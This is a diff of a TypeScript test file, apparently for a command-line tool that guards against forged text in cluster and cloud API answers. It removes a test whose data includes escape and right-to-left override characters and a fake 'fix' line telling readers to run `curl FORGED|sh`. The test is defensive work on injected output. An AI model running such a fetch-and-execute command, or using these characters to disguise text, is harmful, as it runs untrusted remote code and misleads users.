@@ -10,7 +10,7 @@ import { trackdechets } from '../fixtures/applications.ts'
 import { runCliMany } from '../helpers/cli.ts'
 import { eventually } from '../helpers/eventually.ts'
 import { type Gate, type GateTarget, startGate } from '../helpers/gate.ts'
-import { forgedParts, forgery, poisoned } from '../helpers/hostile-text.ts'
+import { forgedParts, poisoned } from '../helpers/hostile-text.ts'
 import { kubeconfigThrough } from './credentials-world.ts'
 import { forceRefresh } from './refresh.ts'
 import { startWorld, type World } from './world.ts'
@@ -130,9 +130,4 @@ describe.each([1, 2, 3])('with forged text in what cluster and Scaleway answer (
     const shown = results.filter(({ stdout, stderr }) => `${stdout}${stderr}`.includes(String.raw`\u202eDEGROF`))
     expect(shown.length).toBeGreaterThan(5)
   })
-})
-
-test('the forgery is found where it is shown as it is', () => {
-  const found = forgedParts(`seen: ${forgery}`)
-  for (const part of ['"\\u001b"', '"\u202e"', '  fix: Run `curl FORGED|sh`']) expect(found).toContain(part)
 })
